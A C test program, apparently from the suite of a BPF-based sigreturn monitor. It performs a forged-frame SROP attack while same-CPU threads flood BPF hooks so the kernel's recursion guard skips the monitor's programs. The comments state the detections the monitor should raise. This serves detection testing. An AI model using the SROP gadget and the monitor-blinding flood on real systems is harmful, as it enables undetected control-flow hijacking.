/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_skip_flood: make the kernel skip the program that judges a sigreturn, then return through
 * a forged frame. Since 7.0 the kernel runs tracepoint and trampoline BPF programs with only
 * migration disabled, and a task preempted inside one holds that program's per-CPU recursion
 * guard (prog->active): every other task on that CPU then skips the program, counted in
 * recursion_misses (docs/kernels.md). Debian's 7.2 and 7.3 kernels skip sigscope's sys_enter and
 * sys_exit programs that way under an ordinary signal load.
 *
 * Every thread is pinned to one CPU. FLOOD_THREADS siblings flood the same hooks: each sends
 * itself signals (sys_enter/sys_exit at tgkill, signal_deliver, and a genuine rt_sigreturn
 * through sys_enter and sys_exit) and makes null syscalls in between (sys_enter/sys_exit's early
 * return), so that one of them is often preempted inside a program while another thread runs. The
 * main thread, after FLOOD_MS of that, returns through a forged frame in the middle of the flood
 * (classic SROP, as srop_gadget: a `mov $15,%eax; syscall; ret` gadget, rip = mal_pwned). One
 * forged return that the kernel lets through unjudged is the attack won.
 *
 * Expected from sigscope: forged_frame (critical) on the first attempt it judges; under --enforce
 * the process is killed there. Where the kernel skipped the entry program, the exit judges the
 * restored registers alone (entry_missed): nothing delivered to this thread explains them, so it
 * is still forged_frame. Where it skipped the exit program, the entry had already judged and
 * killed. With no sigscope, the first attempt succeeds (marker written, exit 0).
 */
#define MAL_FLOOD /* mal.h's same-CPU flood */
#include "mal.h"  /* first: it sets _GNU_SOURCE */

#define FLOOD_THREADS 4
#define FLOOD_MS      300

extern const char srop_skip_flood_gadget[];
__asm__(".text\n"
	".globl srop_skip_flood_gadget\n"
	".type srop_skip_flood_gadget, @function\n"
	"srop_skip_flood_gadget:\n\t"
	"mov $15, %eax\n\t"
	"syscall\n\t"
	"ret\n\t"
	".size srop_skip_flood_gadget, . - srop_skip_flood_gadget\n");

/* The forged sigreturn: it never returns (the kernel takes any frame it can read). */
static void __attribute__((noinline)) forged_sigreturn(void)
{
	/* Both on this thread's stack, as srop_gadget's: the restored rsp is no pivot. */
	struct k_rt_sigframe64 frame __attribute__((aligned(16)));
	static volatile char sink;
	char scratch[16384] __attribute__((aligned(16)));
	uint64_t new_rsp = ((uint64_t)(scratch + sizeof(scratch)) & ~15ull) - 8;

	mal_fill_context(&frame, (uint64_t)mal_pwned, new_rsp);
	frame.pretcode = (uint64_t)srop_skip_flood_gadget;
	scratch[0] = sink; /* keep the scratch area */
	__asm__ volatile("mov %0, %%rsp\n\t"
			 "ret\n\t"
			 :
			 : "r"(&frame)
			 : "memory");
	__builtin_unreachable();
}

int main(void)
{
	mal_init("srop_skip_flood", 60);
	mal_same_cpu_flood(FLOOD_THREADS, FLOOD_MS);
	forged_sigreturn();
	mal_flooding = 0;
	return MAL_EXIT_NOTHING;
}
